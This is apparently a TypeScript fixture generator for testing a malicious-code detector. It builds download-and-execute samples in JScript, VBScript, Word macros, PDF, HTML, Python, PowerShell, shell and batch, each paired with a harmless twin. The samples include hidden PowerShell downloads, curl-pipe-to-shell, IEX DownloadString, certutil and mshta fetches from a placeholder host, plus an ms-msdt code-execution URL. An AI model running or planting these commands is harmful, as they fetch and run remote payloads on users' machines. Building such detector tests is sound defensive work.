/** Programs that do harm, by language: texts that can be hidden, the statements that use them, and a harmless twin. */

import { pdf } from '../samples.ts'
import { macroDocument } from '../vba-writer.ts'
import { javascript, type Kit, vba, vbscript } from './kits.ts'
import { batch, powershell, python, shell } from './shell-kits.ts'

export interface Language {
  kit: Kit
  /** The program as a document. */
  wrap(program: string | Buffer): { name: string; bytes: Buffer }
  techniques: Record<string, Technique>
}

export interface Technique {
  /** Texts, the last of which makes the difference. */
  texts: readonly string[]
  /** In place of the last text, and then nothing is accused. */
  harmless: string
  use(...values: string[]): string[]
}

const HOST = '192.0.2.66'
const COMMAND = `powershell -w hidden -c "iwr http://${HOST}/a.exe -OutFile $env:TEMP\\a.exe; start $env:TEMP\\a.exe"`
const NOTEPAD = 'notepad c:\\temp\\a.txt'
const MSDT = 'ms-msdt:/id PCWDiagnostic /skip force /param "IT_RebrowseForFile=? IT_BrowseForFile=/../../$(calc).exe"'

const file = (name: string) => (program: string | Buffer) => ({ name, bytes: Buffer.from(program) })
const page = (program: string | Buffer) => ({
  name: 'page.html',
  bytes: Buffer.from(
    `<!DOCTYPE html><html><head><title>Notes</title></head><body><p>Notes of the meeting</p><script>\n${program}\n</script></body></html>`,
  ),
})
const reader = (program: string | Buffer) => ({
  name: 'a.pdf',
  bytes: pdf([
    '<< /Type /Catalog /OpenAction 2 0 R >>',
    `<< /S /JavaScript /JS (${String(program).replace(/[\\()]/g, '\\$&')}) >>`,
  ]),
})
const browserValues = {
  ...javascript.values,
  atob: (value: string) => `atob("${Buffer.from(value).toString('base64')}")`,
}

export const languages: Record<string, Language> = {
  'script host': {
    kit: javascript,
    wrap: file('a.js'),
    techniques: {
      run: {
        texts: ['WScript.Shell', COMMAND],
        harmless: NOTEPAD,
        use: (type, command) => [`new ActiveXObject(${type}).Run(${command}, 0);`],
      },
      'run by WScript': {
        texts: ['WScript.Shell', COMMAND],
        harmless: NOTEPAD,
        use: (type, command) => [`var sh = WScript.CreateObject(${type});`, `sh.Run(${command});`],
      },
      'shell execute': {
        texts: ['Shell.Application', 'mshta', `http://${HOST}/a.hta`],
        harmless: '',
        use: (type, program, target) => [
          `new ActiveXObject(${type}).ShellExecute(${program}, ${target}, "", "open", 0);`,
        ],
      },
      'code of a server': {
        texts: ['MSXML2.XMLHTTP', `http://${HOST}/a.txt`],
        harmless: '',
        use: (type, url) => [
          `var x = new ActiveXObject(${type});`,
          `x.open("GET", ${url}, false);`,
          'x.send();',
          'eval(x.responseText);',
        ],
      },
    },
  },
  page: {
    kit: { ...javascript, values: browserValues },
    wrap: page,
    techniques: {
      'an address that runs code': {
        texts: [MSDT],
        harmless: 'https://www.example.com/',
        use: (url) => [`location.href = ${url};`],
      },
      'the same by replace': {
        texts: [MSDT],
        harmless: 'https://www.example.com/',
        use: (url) => [`window.location.replace(${url});`],
      },
    },
  },
  PDF: {
    kit: javascript,
    wrap: reader,
    techniques: {
      'a program of a server': {
        texts: [`http://${HOST}/a.exe`],
        harmless: 'https://www.example.com/',
        use: (url) => [`app.launchURL(${url}, true);`],
      },
    },
  },
  VBScript: {
    kit: vbscript,
    wrap: file('a.vbs'),
    techniques: {
      run: {
        texts: ['WScript.Shell', COMMAND],
        harmless: NOTEPAD,
        use: (type, command) => [`CreateObject(${type}).Run ${command}, 0`],
      },
      'run of a kept object': {
        texts: ['WScript.Shell', COMMAND],
        harmless: NOTEPAD,
        use: (type, command) => [`Set sh = CreateObject(${type})`, `sh.Run ${command}, 0, False`],
      },
      'a process by WMI': {
        texts: ['winmgmts:\\\\.\\root\\cimv2:Win32_Process', COMMAND],
        harmless: NOTEPAD,
        use: (type, command) => [`Set w = GetObject(${type})`, `w.Create ${command}, Null, Null, pid`],
      },
    },
  },
  VBA: {
    kit: vba,
    wrap: (program) => ({ name: 'a.docm', bytes: macroDocument(String(program).replaceAll('\n', '\r\n')) }),
    techniques: {
      Shell: { texts: [COMMAND], harmless: NOTEPAD, use: (command) => [`Shell ${command}, 0`] },
      run: {
        texts: ['WScript.Shell', COMMAND],
        harmless: NOTEPAD,
        use: (type, command) => [`CreateObject(${type}).Run ${command}, 0`],
      },
    },
  },
  Python: {
    kit: python,
    wrap: file('a.py'),
    techniques: {
      'os.system': {
        texts: [`curl -s http://${HOST}/a.sh | sh`],
        harmless: 'ls -l',
        use: (command) => ['import os', `os.system(${command})`],
      },
      subprocess: {
        texts: [`curl -s http://${HOST}/a.sh | sh`],
        harmless: 'ls -l',
        use: (command) => ['import subprocess', `subprocess.Popen(${command}, shell=True)`],
      },
      'code of a server': {
        texts: [`http://${HOST}/a.py`],
        harmless: '',
        use: (url) => ['import urllib.request', `exec(urllib.request.urlopen(${url}).read())`],
      },
    },
  },
  PowerShell: {
    kit: powershell,
    wrap: file('a.ps1'),
    techniques: {
      'code of a server': {
        texts: [`http://${HOST}/a.ps1`],
        harmless: '',
        use: (url) => [`IEX (New-Object Net.WebClient).DownloadString(${url})`],
      },
      'a download that is started': {
        texts: [`http://${HOST}/a.exe`],
        harmless: '',
        use: (url) => [
          `(New-Object Net.WebClient).DownloadFile(${url}, "$env:TEMP\\a.exe")`,
          'Start-Process "$env:TEMP\\a.exe"',
        ],
      },
      'another program': {
        texts: ['mshta.exe', `http://${HOST}/a.hta`],
        harmless: 'c:\\help\\index.htm',
        use: (program, target) => [`Start-Process ${program} ${target}`],
      },
    },
  },
  shell: {
    kit: shell,
    wrap: file('a.sh'),
    techniques: {
      'a script of a server': {
        texts: [`http://${HOST}/a.sh`],
        harmless: '',
        use: (url) => [`curl -s ${url} | bash`],
      },
      'a command as text': {
        texts: [`curl -s http://${HOST}/a.sh | sh`],
        harmless: 'ls -l',
        use: (command) => [`bash -c ${command}`],
      },
      eval: {
        texts: [`curl -s http://${HOST}/a.sh | sh`],
        harmless: 'ls -l',
        use: (command) => [`eval ${command}`],
      },
    },
  },
  batch: {
    kit: batch,
    wrap: file('a.bat'),
    techniques: {
      PowerShell: {
        texts: [`iwr http://${HOST}/a.exe -OutFile a.exe; start a.exe`],
        harmless: 'Get-Date',
        use: (command) => [`powershell -w hidden -c "${command}"`],
      },
      mshta: { texts: [`http://${HOST}/a.hta`], harmless: 'c:\\help\\index.htm', use: (url) => [`mshta ${url}`] },
      certutil: {
        texts: [`http://${HOST}/a.exe`],
        harmless: '',
        use: (url) => [`certutil -urlcache -split -f ${url} %TEMP%\\a.exe`, 'start %TEMP%\\a.exe'],
      },
    },
  },
}
